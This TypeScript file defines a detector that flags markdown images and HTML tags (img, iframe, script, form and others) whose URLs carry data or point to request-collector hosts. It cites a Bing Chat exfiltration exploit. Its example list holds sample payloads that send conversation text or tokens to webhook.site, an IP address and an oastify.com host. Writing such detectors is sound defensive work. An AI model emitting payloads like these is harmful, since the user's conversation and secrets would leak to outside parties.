import type { Detector, Match } from '../../detector.js';
import { dataIn, isCollector, urlAt, type FoundUrl } from './urls.js';

const alt = /!\[[^[\]\n]{0,200}\]\(\s{0,4}<?/y;
const attribute = /[^<>]{0,300}?(?:src|srcset|href|poster|data|action)\s{0,4}=\s{0,4}["']?/iy;
const reference = /\]:\s{1,4}<?/y;

function verifyMarkdown(text: string, start: number): Match | undefined {
  return verifyAfter(text, start, alt);
}

function verifyTag(text: string, _: number, end: number): Match | undefined {
  return verifyAfter(text, end, attribute);
}

function verifyReference(text: string, start: number): Match | undefined {
  return verifyAfter(text, start, reference);
}

function verifyAfter(text: string, start: number, before: RegExp): Match | undefined {
  before.lastIndex = start;
  const lead = before.exec(text)?.[0];
  const url = lead === undefined ? undefined : urlAt(text, start + lead.length);
  const confidence = url ? threatOf(url) : 0;
  return url && confidence >= 0.3 ? { start: url.start, end: url.end, confidence } : undefined;
}

/** An image is loaded without anybody asking: its URL need only hold the data. */
function threatOf(url: FoundUrl): number {
  const data = dataIn(url);
  if (isCollector(url.host)) return 0.85;
  return data === 0 ? 0 : Math.min(0.9, data + (/^\[|^\d+(?:\.\d+){3}$/.test(url.host) ? 0.2 : 0.05));
}

/**
 * Images and other things that a client loads by itself, with data in their URL: markdown images, `<img>`, `<iframe>`,
 * `<link>`, `<script>`, `<form>`. Johann Rehberger, "Bing Chat: Data Exfiltration Exploit Explained" (2023).
 */
export const exfilMarkdownImageDetector: Detector = {
  id: 'mcp.exfil.markdown_image',
  kind: 'threat',
  title: 'Exfiltration: image',
  description: 'Images and embedded content whose URL carries data, or leads to a collector of requests.',
  label: 'URL that carries data',
  finders: [
    { literals: ['!['], verify: verifyMarkdown },
    {
      literals: ['<img', '<iframe', '<script', '<link', '<form', '<video', '<audio', '<source', '<object', '<embed'],
      verify: verifyTag,
    },
    { literals: [']: http'], verify: verifyReference },
  ],
  examples: {
    found: [
      '![logo](«https://example.com/p.png?data={conversation}»)',
      '![](«https://example.com/i?d=QWxhZGRpbjpvcGVuIHNlc2FtZSBhbmQgdGhlIDQwIHRoaWV2ZXM9»)',
      '<img src="«https://webhook.site/1f3c?x=1»">',
      '<iframe width=0 src="«https://1.2.3.4/log?token=[SECRET]»"></iframe>',
      '[a]: «https://abc.oastify.com/x»',
    ],
    clean: [
      '![build](https://example.com/badge/build.svg?branch=main&style=flat)',
      '![photo](https://images.example.com/photo-1500000000000?w=800&q=80)',
      '<img src="/static/logo.png" alt="logo">',
      '<script src="https://cdn.example.com/lib@4.2.1/dist/lib.min.js"></script>',
      '[1]: https://example.com/docs',
      '![](data:image/png;base64,iVBORw0KGgoAAAANSUhEUg)',
    ],
    worst: ['![', '![](', '<img ', '<img src=', ']: http', '![](https://a/?d='],
  },
};
